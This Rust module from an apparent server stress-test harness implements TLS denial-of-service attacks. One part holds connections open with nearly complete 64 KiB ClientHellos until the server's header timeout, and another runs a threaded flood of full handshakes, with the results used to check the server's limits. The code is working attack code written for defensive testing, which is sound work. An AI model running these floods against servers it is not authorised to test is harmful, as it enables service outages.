//! The TLS attacks: ClientHellos held unfinished, and full handshakes back
//! to back. (The HTTP/1 pipelining flood shares the HTTP/2 floods' loop:
//! `h2::Frames::Http1`.)
//!
//! - **Large ClientHellos**: rustls collects a handshake message of up to
//!   64 KiB before it looks at it, so a connection that sends all but the
//!   last bytes of one holds that much until the header timeout. Before
//!   ringkit charged a handshake's ciphertext to its input budget, 3 000
//!   such connections took a server to +220 MB (and it kept it after they
//!   closed).
//! - **Handshake flood**: each connection makes a full handshake (the
//!   server's key exchange and signature) and closes; the well-behaved
//!   client beside them is judged as under the HTTP/2 floods.

use std::io::{self, Write};
use std::time::{Duration, Instant};

use super::ctx::{Ctx, Outcome, SLACK};
use super::held::Held;
use super::target::{self, Conn};

/// A ClientHello announced as 65 520 bytes (rustls takes handshake
/// messages up to 64 KiB), all but its last 100 bytes, in records of
/// 16 KiB: the handshake can neither finish nor fail.
fn big_hello() -> Vec<u8> {
    const LEN: usize = 65_520;
    let mut msg = vec![1u8, 0, (LEN >> 8) as u8, LEN as u8];
    msg.resize(4 + LEN - 100, 0);
    let mut wire = Vec::with_capacity(msg.len() + 32);
    for rec in msg.chunks(16_384) {
        wire.extend([0x16, 0x03, 0x01]);
        wire.extend((rec.len() as u16).to_be_bytes());
        wire.extend(rec);
    }
    wire
}

/// `full` connections (short form: 600) each holding a large ClientHello;
/// those the server keeps must close at the header timeout.
pub(super) fn big_hellos(cx: &Ctx, o: &mut Outcome, full: usize) -> io::Result<()> {
    let wire = big_hello();
    let mut held = Held::new();
    for _ in 0..cx.n(full, 600) {
        let Ok(mut c) = cx.tcp() else {
            o.notes.push("some connections were refused".into());
            continue;
        };
        // One the server closes part-way (over its input budget) fails
        // here, and is counted closed.
        let _ = c.write_all(&wire);
        held.push(Conn::Plain(c));
    }
    o.notes.dedup();
    held.restart_clock();
    let budget = Some(cx.timeouts.header.as_secs_f64() + SLACK);
    cx.await_close(&mut held, budget, o);
    // What the server gives back once they closed may take a moment (it
    // asks the allocator 1 s after): RSS is sampled after this.
    std::thread::sleep(Duration::from_millis(1500));
    Ok(())
}

/// Full handshakes back to back from [`super::h2::flood_conns`] threads
/// for the flood's time, each connection closed at once.
pub(super) fn handshakes(cx: &Ctx, o: &mut Outcome) -> io::Result<()> {
    let until = Instant::now() + super::h2::flood_time(cx);
    let (t, addr) = (cx.target, cx.addr);
    let threads: Vec<_> = (0..super::h2::flood_conns())
        .map(|_| {
            let tls = cx.tls.clone();
            std::thread::spawn(move || {
                let (mut made, mut failed) = (0u64, 0u64);
                while Instant::now() < until {
                    match target::connect(t, addr, &tls, Duration::from_secs(2)) {
                        Ok(_) => made += 1,
                        Err(_) => failed += 1,
                    }
                }
                (made, failed)
            })
        })
        .collect();
    let (mut made, mut failed) = (0, 0);
    for th in threads {
        let (m, f) = th.join().unwrap_or((0, 0));
        made += m;
        failed += f;
    }
    o.hostile = super::h2::flood_conns();
    o.notes.push(format!(
        "{made} handshakes in {} s ({failed} failed)",
        super::h2::flood_time(cx).as_secs()
    ));
    Ok(())
}
